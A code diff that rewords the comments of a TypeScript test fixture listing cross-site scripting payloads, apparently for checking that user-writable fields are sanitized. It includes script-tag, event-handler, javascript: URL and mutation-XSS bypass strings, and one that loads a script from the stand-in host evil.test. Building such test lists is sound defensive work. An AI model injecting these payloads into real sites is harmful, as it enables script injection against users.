@@ -1,9 +1,9 @@
 /**
- * Ways to smuggle a script into HTML, after the cheat sheets of OWASP and PortSwigger: each sets `window.attacked` where it runs.
- * Put one into every text that people can write.
+ * Ways to smuggle a script into HTML, after the cheat sheets of OWASP and PortSwigger: each sets `window.attacked` if it runs. Use them in
+ * every text that people can write.
  */
 export const scriptPayloads: readonly string[] = [
-  // plain, in odd case, broken, nested
+  // plain, mixed case, malformed, nested
   '<script>attacked=1</script>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
   '<ScRiPt >attacked=1</sCrIpT >',
@@ -22,7 +22,7 @@ export const scriptPayloads: readonly string[] = [
   '<!--><script>attacked=1</script>-->',
   '<![CDATA[<script>attacked=1</script>]]>',
   '<?xml version="1.0"?><script>attacked=1</script>',
-  // handlers
+  // event handlers
   '<img src=x onerror=attacked=1>',
   '<img src=x onerror="attacked=1"//',
   '<img/src=x/onerror=attacked=1>',
@@ -48,7 +48,7 @@ export const scriptPayloads: readonly string[] = [
   '<marquee onstart=attacked=1>jalan</marquee>',
   '<style onload=attacked=1></style>',
   '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="attacked=1">x</p>',
-  // addresses
+  // URLs
   '<a href="javascript:attacked=1">klik</a>',
   '<a href="JaVaScRiPt:attacked=1">klik</a>',
   '<a href=" javascript:attacked=1">klik</a>',
@@ -72,7 +72,7 @@ export const scriptPayloads: readonly string[] = [
   '<link rel=stylesheet href="data:text/css,*{x:expression(attacked=1)}">',
   '<meta http-equiv=refresh content="0;url=javascript:attacked=1">',
   '<p style="background:url(javascript:attacked=1)">latar</p>',
-  // what a second reading turns into something else
+  // markup that changes its meaning when parsed a second time
   '<noscript><p title="</noscript><img src=x onerror=attacked=1>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked=1&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked=1>',
